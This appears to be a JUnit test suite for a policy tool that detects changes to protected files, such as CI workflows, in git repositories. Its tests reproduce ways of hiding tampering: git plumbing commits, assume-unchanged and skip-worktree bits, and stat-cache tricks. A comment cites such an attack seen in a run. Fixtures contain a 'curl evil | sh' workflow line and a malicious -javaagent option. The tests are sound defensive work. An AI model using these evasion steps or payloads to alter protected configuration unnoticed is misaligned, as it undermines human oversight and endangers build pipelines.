package dev.ralon.policy.git;

import dev.ralon.policy.load.PolicyLoader;
import dev.ralon.policy.walk.PolicySet;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** What a branch changed, judged in real repositories: merge base, {@code A...B}, CI and shallow clones. */
class ChangedPathsTest {
    @TempDir
    Path tmp;

    GitRepo upstream;
    PolicySet policy;

    @BeforeEach
    void setUp() throws Exception {
        Path dir = Files.createDirectories(tmp.toRealPath().resolve("upstream"));
        upstream = GitRepo.init(dir)
                .write("agent.lock", "version: 1\nprotect:\n  - .mvn/\n  - build.properties\n")
                .write(".mvn/jvm.config", "-Xmx1g\n")
                .write("build.properties", "v=1\n")
                .write("docs/readme.md", "docs\n")
                .commitAll("base");
        upstream.git("checkout", "-qb", "docs-branch");
        upstream.write("docs/readme.md", "better docs\n").commitAll("docs only");
        upstream.git("checkout", "-q", "main");
        upstream.write(".mvn/jvm.config", "-Xmx2g\n").commitAll("main moves on: a protected change");
        upstream.git("checkout", "-q", "docs-branch");
        policy = PolicySet.explicit(PolicyLoader.load(dir.resolve("agent.lock")));
    }

    List<String> paths(ChangedPaths.Result r) {
        return r.findings().stream().map(ChangedPaths.Finding::path).toList();
    }

    @Test
    void aDocsOnlyBranchIsNotBlamedForWhatMainDidSinceItLeft() throws Exception {
        assertEquals(List.of(), paths(ChangedPaths.find(policy, upstream.dir, "main", false, true, "--changed ")));
        assertEquals(List.of(), paths(ChangedPaths.find(policy, upstream.dir, "main...HEAD", false, true, "--changed ")));
        assertEquals(List.of(), paths(ChangedPaths.find(policy, upstream.dir, "main...", false, true, "--changed ")));
        ChangedPaths.Result r = ChangedPaths.find(policy, upstream.dir, "main...docs-branch", false, true, "--changed ");
        assertTrue(r.against().startsWith("docs-branch against main (merge base "), r.against());
        // the other way round, main changed a protected path since it left the branch
        assertEquals(List.of(".mvn/jvm.config"),
                paths(ChangedPaths.find(policy, upstream.dir, "docs-branch...main", false, true, "--changed ")));
    }

    @Test
    void aProtectedChangeOnTheBranchFailsInTheWorkTreeAndInCommits() throws Exception {
        upstream.write("build.properties", "v=2\n");
        assertEquals(List.of("build.properties"),
                paths(ChangedPaths.find(policy, upstream.dir, "main", false, true, "--changed ")));
        upstream.commitAll("protected change");
        assertEquals(List.of("build.properties"),
                paths(ChangedPaths.find(policy, upstream.dir, "main...HEAD", false, true, "--changed ")));
    }

    @Test
    void twoDotsAreRefusedWithTheThreeDotForm() {
        GitException e = assertThrows(GitException.class,
                () -> ChangedPaths.find(policy, upstream.dir, "main..HEAD", false, false, "--changed "));
        assertTrue(e.getMessage().contains("write main...HEAD"), e.getMessage());
    }

    @Test
    void noBaseUnderCiIsRefusedAndSaysWhatToPass() throws Exception {
        GitException e = assertThrows(GitException.class,
                () -> ChangedPaths.find(policy, upstream.dir, null, false, true, "-Dagentlock.base="));
        assertTrue(e.getMessage().startsWith("no base revision given and CI=true"), e.getMessage());
        assertTrue(e.getMessage().contains("-Dagentlock.base=origin/main"), e.getMessage());
        assertEquals("the work tree against HEAD",
                ChangedPaths.find(policy, upstream.dir, null, false, false, "--changed ").against());
        assertTrue(ChangedPaths.underCi(java.util.Map.of("CI", "true")));
        assertTrue(!ChangedPaths.underCi(java.util.Map.of("CI", "false")) && !ChangedPaths.underCi(java.util.Map.of()));
    }

    @Test
    void anUnknownRevisionSaysWhatToDoNotWhatGitExited() {
        GitException e = assertThrows(GitException.class,
                () -> ChangedPaths.find(policy, upstream.dir, "nosuchref", false, false, "--changed "));
        assertEquals("unknown revision \"nosuchref\": fetch it first (git fetch origin BRANCH) or name a branch, tag "
                + "or commit that exists in this repository", e.getMessage());
        GitException option = assertThrows(GitException.class,
                () -> ChangedPaths.find(policy, upstream.dir, "--output=/tmp/x", false, false, "--changed "));
        assertTrue(option.getMessage().contains("is not a revision"), option.getMessage());
    }

    /** The checkout CI makes: shallow, detached, only the commit under test fetched. */
    @Test
    void shallowDetachedCheckoutSaysWhatToFetch() throws Exception {
        Path ci = Files.createDirectories(tmp.toRealPath().resolve("ci"));
        GitRepo clone = GitRepo.init(ci);
        clone.git("remote", "add", "origin", upstream.dir.toUri().toString());
        clone.git("fetch", "-q", "--no-tags", "--depth=1", "origin", "+refs/heads/docs-branch:refs/remotes/pull/1/head");
        clone.git("checkout", "-q", "--detach", "refs/remotes/pull/1/head");
        PolicySet p = PolicySet.explicit(PolicyLoader.load(ci.resolve("agent.lock")));
        GitException unknown = assertThrows(GitException.class,
                () -> ChangedPaths.find(p, ci, "origin/main", false, true, "--changed "));
        assertTrue(unknown.getMessage().startsWith("unknown revision \"origin/main\" in this shallow clone: fetch it"),
                unknown.getMessage());
        clone.git("fetch", "-q", "--no-tags", "--depth=1", "origin", "+refs/heads/main:refs/remotes/origin/main");
        GitException noBase = assertThrows(GitException.class,
                () -> ChangedPaths.find(p, ci, "origin/main", false, true, "--changed "));
        assertTrue(noBase.getMessage().startsWith("no merge base of origin/main and HEAD in this shallow clone"),
                noBase.getMessage());
        clone.git("fetch", "-q", "--unshallow", "origin");
        assertEquals(List.of(), paths(ChangedPaths.find(p, ci, "origin/main", false, true, "--changed ")));
    }

    @Test
    void aWorkTreeRedirectedElsewhereIsRefused() throws Exception {
        Path elsewhere = Files.createDirectories(tmp.toRealPath().resolve("elsewhere"));
        upstream.git("config", "core.worktree", elsewhere.toString());
        GitException e = assertThrows(GitException.class,
                () -> ChangedPaths.find(policy, upstream.dir, "main", false, false, "--changed "));
        assertTrue(e.getMessage().contains("does not contain"), e.getMessage());
    }

    // ---- what the branch would carry, whatever the index says ----

    /** A repository whose policy protects the CI workflow, and nothing under .mvn/. */
    GitRepo workflowRepo() throws Exception {
        return workflowRepo("wf");
    }

    GitRepo workflowRepo(String name) throws Exception {
        Path dir = Files.createDirectories(tmp.toRealPath().resolve(name));
        return GitRepo.init(dir)
                .write("agent.lock", "version: 1\nprotect:\n  - .github/workflows/\n")
                .write(".github/workflows/ci.yml", "run: safe\n")
                .write("src/app.txt", "app\n")
                .commitAll("base");
    }

    static PolicySet policyOf(GitRepo r) throws Exception {
        return PolicySet.explicit(PolicyLoader.load(r.dir.resolve("agent.lock")));
    }

    static ChangedPaths.Finding only(ChangedPaths.Result r) {
        assertEquals(1, r.findings().size(), r.findings().toString());
        return r.findings().get(0);
    }

    /**
     * The attack seen inside a run: the protected file on disk never changes, the blob goes into git's objects, the
     * index names it (update-index --cacheinfo) and a commit records it. Before the fix --changed compared the work
     * tree (unchanged) with the base and passed.
     */
    @Test
    void aBlobPutInTheIndexWithPlumbingAndCommittedIsReported() throws Exception {
        GitRepo r = workflowRepo();
        PolicySet p = policyOf(r);
        String id = r.git("hash-object", "-w", r.write("evil.tmp", "run: curl evil | sh\n")
                .dir.resolve("evil.tmp").toString()).trim();
        Files.delete(r.dir.resolve("evil.tmp"));
        r.git("update-index", "--cacheinfo", "100644," + id + ",.github/workflows/ci.yml");
        ChangedPaths.Finding staged = only(ChangedPaths.find(p, r.dir, null, true, false, "--changed "));
        assertEquals(List.of(ChangedPaths.INDEX), staged.where());
        ChangedPaths.Finding before = only(ChangedPaths.find(p, r.dir, "HEAD", false, false, "--changed "));
        assertEquals(".github/workflows/ci.yml", before.path());
        assertTrue(before.where().contains(ChangedPaths.INDEX), before.toString());
        r.git("commit", "-qm", "innocent");
        assertEquals("run: safe\n", Files.readString(r.dir.resolve(".github/workflows/ci.yml")));
        ChangedPaths.Finding f = only(ChangedPaths.find(p, r.dir, "HEAD~1", false, false, "--changed "));
        assertEquals(".github/workflows/ci.yml", f.path());
        assertEquals("M", f.status());
        assertEquals(ChangedPaths.COMMITS, f.where().get(0), f.toString());
        assertTrue(!f.rules().isEmpty(), f.toString());
    }

    /** A commit made without the index at all: a tree written from a temporary index, commit-tree, update-ref. */
    @Test
    void aCommitMadeWithCommitTreeAndUpdateRefIsReported() throws Exception {
        GitRepo r = workflowRepo();
        PolicySet p = policyOf(r);
        String id = r.git("hash-object", "-w", r.write("evil.tmp", "run: evil\n").dir.resolve("evil.tmp").toString())
                .trim();
        Files.delete(r.dir.resolve("evil.tmp"));
        java.util.Map<String, String> env = java.util.Map.of("GIT_INDEX_FILE", tmp.toRealPath().resolve("other.index")
                .toString());
        r.gitWith(env, "read-tree", "HEAD");
        r.gitWith(env, "update-index", "--cacheinfo", "100644," + id + ",.github/workflows/ci.yml");
        String tree = r.gitWith(env, "write-tree").trim();
        String commit = r.git("commit-tree", tree, "-p", "HEAD", "-m", "innocent").trim();
        r.git("update-ref", "refs/heads/main", commit);
        ChangedPaths.Finding f = only(ChangedPaths.find(p, r.dir, "HEAD~1", false, false, "--changed "));
        assertEquals(".github/workflows/ci.yml", f.path());
        assertTrue(f.where().contains(ChangedPaths.COMMITS), f.toString());
        // the index still holds the old blob: the next commit would revert it, which is a change to HEAD too
        assertTrue(f.where().contains(ChangedPaths.INDEX), f.toString());
    }

    /** An edit on disk hidden from git diff by an index bit: assume-unchanged, skip-worktree. */
    @Test
    void anEditHiddenByAssumeUnchangedOrSkipWorktreeIsReported() throws Exception {
        for (String bit : List.of("--assume-unchanged", "--skip-worktree")) {
            GitRepo r = workflowRepo(bit.substring(2));
            PolicySet p = policyOf(r);
            r.git("update-index", bit, ".github/workflows/ci.yml");
            r.write(".github/workflows/ci.yml", "run: evil edited on disk\n");
            assertEquals("", r.git("diff", "--name-status", "HEAD"), "git itself does not see it (" + bit + ")");
            ChangedPaths.Finding f = only(ChangedPaths.find(p, r.dir, "HEAD", false, false, "--changed "));
            assertEquals(".github/workflows/ci.yml", f.path(), bit);
            assertEquals("M", f.status(), bit);
            assertEquals(List.of(ChangedPaths.WORKTREE), f.where(), bit);
            Files.delete(r.dir.resolve(".github/workflows/ci.yml"));
            ChangedPaths.Result gone = ChangedPaths.find(p, r.dir, "HEAD", false, false, "--changed ");
            if (bit.equals("--assume-unchanged")) {
                assertEquals("D", only(gone).status());
            } else { // sparse checkout leaves skip-worktree files absent: not a change
                assertEquals(List.of(), paths(gone));
            }
        }
    }

    /** An edit of the same size with the old mtime, and a configuration that stops git looking at ctime and inode. */
    @Test
    void anEditTheStatCacheDoesNotSeeIsReported() throws Exception {
        GitRepo r = workflowRepo();
        PolicySet p = policyOf(r);
        Path ci = r.dir.resolve(".github/workflows/ci.yml");
        java.nio.file.attribute.FileTime old = java.nio.file.attribute.FileTime.fromMillis(1_600_000_000_000L);
        Files.setLastModifiedTime(ci, old);
        r.git("config", "core.trustctime", "false");
        r.git("config", "core.checkStat", "minimal");
        r.git("update-index", "--refresh");
        Files.writeString(ci, "run: EVIL\n"); // the same size
        Files.setLastModifiedTime(ci, old);
        assertEquals("", r.git("diff", "--name-status", "HEAD"), "git itself does not see it");
        assertEquals(List.of(".github/workflows/ci.yml"),
                paths(ChangedPaths.find(p, r.dir, "HEAD", false, false, "--changed ")));
    }

    /**
     * Code-running configuration is reported whether or not a rule protects it, and even when git ignores it (here
     * through .git/info/exclude, so git status shows nothing); an ignored build output is not, nor an IDE's ignored
     * .idea/ (user-local by design).
     */
    @Test
    void ignoredCodeRunningConfigurationIsReportedAndIgnoredBuildOutputIsNot() throws Exception {
        GitRepo r = workflowRepo();
        PolicySet p = policyOf(r);
        Files.writeString(r.dir.resolve(".git/info/exclude"), ".mvn/\ntarget/\n.idea/\n");
        r.write(".mvn/jvm.config", "-javaagent:/tmp/evil.jar\n");
        r.write("target/x.class", "cafebabe\n");
        // an IDE's own ignored state is not reported (CodeRunningConfig.Entry.userLocal): else every commit refuses
        r.write(".idea/workspace.xml", "<project/>\n");
        assertEquals("", r.git("status", "--porcelain"));
        for (boolean staged : List.of(false, true)) {
            ChangedPaths.Finding f = only(ChangedPaths.find(p, r.dir, staged ? null : "HEAD", staged, false,
                    "--changed "));
            assertEquals(".mvn/jvm.config", f.path());
            assertEquals("A", f.status());
            assertEquals(List.of(ChangedPaths.IGNORED), f.where());
            assertEquals(List.of(), f.rules());
            assertTrue(f.codeRunning().contains("-javaagent"), f.codeRunning());
        }
        // tracked and changed in a commit, unprotected by agent.lock: reported as code-running configuration too
        Files.writeString(r.dir.resolve(".git/info/exclude"), "target/\n.idea/\n");
        r.commitAll("mvn options");
        ChangedPaths.Finding committed = only(ChangedPaths.find(p, r.dir, "HEAD~1", false, false, "--changed "));
        assertEquals(List.of(ChangedPaths.COMMITS), committed.where());
    }
}
